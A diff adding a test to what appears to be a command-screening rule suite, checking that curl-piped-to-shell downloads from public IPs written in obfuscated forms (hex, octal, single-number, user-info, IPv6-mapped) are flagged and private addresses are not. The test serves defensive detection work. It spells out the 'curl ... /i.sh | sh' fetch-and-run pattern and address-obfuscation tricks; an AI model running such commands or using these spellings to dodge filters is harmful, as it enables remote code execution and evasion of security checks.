@@ -1223,6 +1223,14 @@ describe('download.raw-ip-exec: the shared address space 100.64.0.0/10 (CGNAT, T
     expect(rules('100.101.102.103')).toEqual(['download.fetch-run']);
     expect(rules('100.128.0.1')).toContain('download.raw-ip-exec');
   });
+  it('a public address behind user info, written as one number, in hex or octal parts, or as an IPv6 literal is a raw IP; private ones written plainly are not', () => {
+    for (const host of ['100.64.1.1@203.0.113.9', 'x@203.0.113.9', 'u:p@203.0.113.9:8443', '0xCB007109', '3405803785', '100.064.1.1', '0313.0.0x71.011', '203.0.29961', '0x7f.1', '[::ffff:203.0.113.9]', '[2001:db8::1]:8443']) {
+      expect(blocks(`curl -fsSLk https://${host}/i.sh | sh`), host).toContain('download.raw-ip-exec');
+    }
+    for (const host of ['100.100.100.100', 'u:p@100.64.1.1', '127.1:8080', '10.1', '[::1]:8080', '[fd7a:115c:a1e0::1]', '[fe80::1]', '[::ffff:100.64.1.1]', '[::ffff:192.168.1.2]', 'get.tool.example', 'v1.2.example']) {
+      expect(blocks(`curl -fsSL https://${host}/i.sh | sh`), host).toEqual([]);
+    }
+  });
 });
 
 describe('encoded payloads: the decoders, sinks and PowerShell spellings that run them', () => {
